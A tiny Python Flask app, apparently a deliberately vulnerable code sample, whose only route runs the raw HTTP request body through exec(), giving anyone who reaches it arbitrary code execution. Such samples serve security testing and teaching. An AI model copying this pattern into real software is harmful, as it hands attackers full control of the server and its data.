import flask

app = flask.Flask(__name__)


@app.route("/")
def page():
    exec(flask.request.data)
